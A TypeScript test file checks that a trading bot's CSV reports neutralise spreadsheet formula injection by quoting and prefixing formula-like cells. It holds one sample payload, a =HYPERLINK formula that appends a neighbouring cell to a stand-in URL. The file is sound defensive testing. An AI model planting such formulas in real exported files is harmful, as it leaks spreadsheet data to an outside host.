/**
 * CSV out is safe to open in a spreadsheet (OWASP "CSV injection"): a cell that a spreadsheet
 * would run as a formula is written as text, prefixed with a single quote and quoted, in every
 * file of `--csv`. Identifiers reach the files from recordings and imported data, so a market id
 * such as `=HYPERLINK(...)` must arrive as text; negative numbers stay numbers.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ReportCollector } from '../../src/replay/report/collector.ts';
import { csvField, isFormulaLike, openReportCsv } from '../../src/replay/report/csv.ts';
import { testFill } from '../../src/runtime/testing/index.ts';

const T0 = Date.UTC(2026, 0, 5);
const HOSTILE = '=HYPERLINK("http://e.x/?"&B2,"x")';

let folder = '';

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'paperbot-report-csv-'));
});

afterAll(async () => {
  if (folder !== '') await rm(folder, { recursive: true, force: true });
});

describe('CSV cells a spreadsheet would run', () => {
  it('neutralises formula-like cells and leaves numbers and text alone', () => {
    for (const text of ['=1+1', '+1', '@SUM(A1)', '\tx', '\rx', '-x', '-', '-1+2', '=']) {
      expect(isFormulaLike(text), JSON.stringify(text)).toBe(true);
    }
    for (const text of ['-1.5', '-0', '-.5', '-2e3', '1', 'BTC-PERP', 'a=b', '', ' =x']) {
      expect(isFormulaLike(text), JSON.stringify(text)).toBe(false);
    }
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('-1.5')).toBe('-1.5');
    expect(csvField('@cmd')).toBe(`"'@cmd"`);
    expect(csvField('a,"b"')).toBe('"a,""b"""');
    expect(csvField(HOSTILE)).toBe(`"'=HYPERLINK(""http://e.x/?""&B2,""x"")"`);
  });

  it('writes a hostile market id as text in trades.csv and fills.csv', async () => {
    const csv = openReportCsv(folder);
    const collector = new ReportCollector({
      currency: 'pUSDC',
      startingBalance: '10000',
      startMs: T0,
      files: csv,
    });
    collector.fill(
      testFill(
        {
          fill_id: '-f1',
          market_id: HOSTILE,
          side: 'buy',
          price: '100',
          quantity: '1',
          fee: '-0.5',
        },
        T0 + 1_000,
      ),
    );
    collector.fill(
      testFill(
        {
          fill_id: '@f2',
          market_id: HOSTILE,
          side: 'sell',
          price: '101',
          quantity: '1',
          fee: '0.5',
        },
        T0 + 2_000,
      ),
    );
    collector.finish(T0 + 3_000, '10001');
    csv.close();

    for (const name of ['trades.csv', 'fills.csv']) {
      const text = await readFile(join(folder, name), 'utf8');
      expect(text, name).toContain(`"'=HYPERLINK(""http://e.x/?""&B2,""x"")"`);
      // No cell of the file starts a formula once read back as a spreadsheet reads it.
      const rows = parse(text, { relax_column_count: false }) as string[][];
      for (const row of rows.slice(1)) {
        for (const cell of row) expect(isFormulaLike(cell), `${name}: ${cell}`).toBe(false);
      }
      const marketColumn = rows[0]!.indexOf('market_id');
      expect(rows[1]![marketColumn]).toBe(`'${HOSTILE}`);
    }
    const fills = parse(await readFile(join(folder, 'fills.csv'), 'utf8')) as string[][];
    const heads = fills[0]!;
    // Fill ids that look like formulas are text too; a negative fee stays a number.
    expect(fills.slice(1).map((row) => row[heads.indexOf('fill_id')])).toEqual(["'-f1", "'@f2"]);
    expect(fills[1]![heads.indexOf('fee')]).toBe('-0.5');
  });
});
